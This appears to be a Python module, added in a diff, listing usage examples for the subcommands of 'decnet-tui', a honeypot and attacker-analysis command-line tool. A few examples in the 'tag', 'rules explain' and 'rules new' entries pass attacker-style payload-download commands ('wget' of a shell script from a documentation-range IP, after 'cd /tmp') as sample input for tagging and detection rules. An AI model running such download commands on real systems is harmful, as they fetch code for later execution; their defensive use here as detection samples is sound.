@@ -1,0 +1,81 @@
+"""Examples of commands, as ``--help`` and docs/commands.md show them; a test runs through their spelling."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping, Sequence
+
+EXAMPLES: Mapping[str, Sequence[str]] = {
+    "tag": (
+        "echo 'wget http://203.0.113.9/x.sh' | decnet-tui tag -",
+        "decnet-tui tag --sessions sessions.jsonl",
+    ),
+    "rules list": ("decnet-tui rules list", "decnet-tui rules list --json"),
+    "rules show": ("decnet-tui rules show R0012",),
+    "rules check": ("decnet-tui rules check", "decnet-tui rules check my-rules"),
+    "rules test": ("decnet-tui rules test X0001.yaml --since 30d",),
+    "rules explain": (
+        "decnet-tui rules explain R0012 'cd /tmp; wget http://203.0.113.9/a'",
+        "decnet-tui rules explain R0901 62eb5369",
+    ),
+    "rules new": (
+        "decnet-tui rules new --from 62eb5369 -o X0001.yaml",
+        "decnet-tui rules new --from 'wget http://203.0.113.9/a' --technique T1105",
+    ),
+    "rules import-sigma": ("decnet-tui rules import-sigma sigma/rules/linux --out sigma-rules",),
+    "rules judge": (
+        "decnet-tui rules judge --since 30d",
+        "decnet-tui rules judge sessions.jsonl --rules my-rules",
+    ),
+    "rules disable": ("decnet-tui rules disable R0012 --for 1h --reason 'own scanner'",),
+    "rules enable": ("decnet-tui rules enable R0012",),
+    "rules clip": ("decnet-tui rules clip R0012 --max 0.4 --for 7d",),
+    "rules coverage": ("decnet-tui rules coverage",),
+    "tags": ("decnet-tui tags --technique T1105 --since 24h", "decnet-tui tags --since today --json"),
+    "sessions": ("decnet-tui sessions --severity high --since 7d",),
+    "playbooks": ("decnet-tui playbooks --since 7d",),
+    "attackers": ("decnet-tui attackers --since yesterday --country NL",),
+    "workers": ("decnet-tui workers --json",),
+    "session": ("decnet-tui session 62eb5369",),
+    "attacker": ("decnet-tui attacker 203.0.113.7",),
+    "credentials": ("decnet-tui credentials --since 24h",),
+    "summary": ("decnet-tui summary --since 24h",),
+    "stats": ("decnet-tui stats --since 7d", "decnet-tui stats --limit 3 --json"),
+    "sensors": ("decnet-tui sensors",),
+    "sensors formats": ("decnet-tui sensors formats",),
+    "sensors try": ("decnet-tui sensors try /var/log/suricata/eve.json",),
+    "deadletters": ("decnet-tui deadletters --limit 20",),
+    "deadletters retry": ("decnet-tui deadletters retry 17",),
+    "worker": ("decnet-tui worker pause ttp", "decnet-tui worker resume ttp"),
+    "identities": ("decnet-tui identities --joined",),
+    "identities link": ("decnet-tui identities link 203.0.113.7 198.51.100.4 --reason 'same key'",),
+    "identity": ("decnet-tui identity 203.0.113.7",),
+    "campaigns": ("decnet-tui campaigns --since 7d",),
+    "campaign": ("decnet-tui campaign c-719f7fe8",),
+    "attribution": ("decnet-tui attribution --limit 20",),
+    "alerts": ("decnet-tui alerts",),
+    "watch": ("decnet-tui watch 'ttp.>'", "decnet-tui watch 'attacker.>' --last 20 --json"),
+    "replay": ("decnet-tui replay old/cowrie.json --speed 10x",),
+    "fleet apply": ("decnet-tui fleet apply fleet.yaml",),
+    "fleet mutate": ("decnet-tui fleet mutate web-01 --wait",),
+    "canary mint": ("decnet-tui canary mint page --decky web-01 -o a.html",),
+    "export": (
+        "decnet-tui export navigator -o layer.json",
+        "decnet-tui export stix --since 7d -o bundle.json",
+    ),
+    "find": ("decnet-tui find /tmp/x.sh",),
+    "ignore": ("decnet-tui ignore 192.0.2.0/24 --for 30d --reason 'own scanner'",),
+    "intel lookup": ("decnet-tui intel lookup 185.220.101.4",),
+    "backfill": ("decnet-tui backfill --since 7d --rule R0012",),
+    "purge": ("decnet-tui purge --older-than 90d",),
+    "unit": (
+        "decnet-tui unit --sensor cowrie=/home/cowrie/cowrie/var/log/cowrie > /etc/systemd/system/decnet-tui.service",
+        "decnet-tui unit --role sensors --config /etc/decnet/sensor.yaml",
+        "decnet-tui unit --role engine --config /etc/decnet/engine.yaml --allow 10.0.0.0/8",
+    ),
+    "bus config": ("decnet-tui bus config --sensor east --sensor west --out nats.conf",),
+    "doctor": ("decnet-tui doctor",),
+    "schema": ("decnet-tui schema", "decnet-tui schema attacker.session.ended"),
+    "bench": ("decnet-tui bench --runs 3",),
+    "completion": ("decnet-tui completion bash > ~/.local/share/bash-completion/completions/decnet-tui",),
+}
+"""Command → lines that can be typed as they are, but for names of the reader's own."""
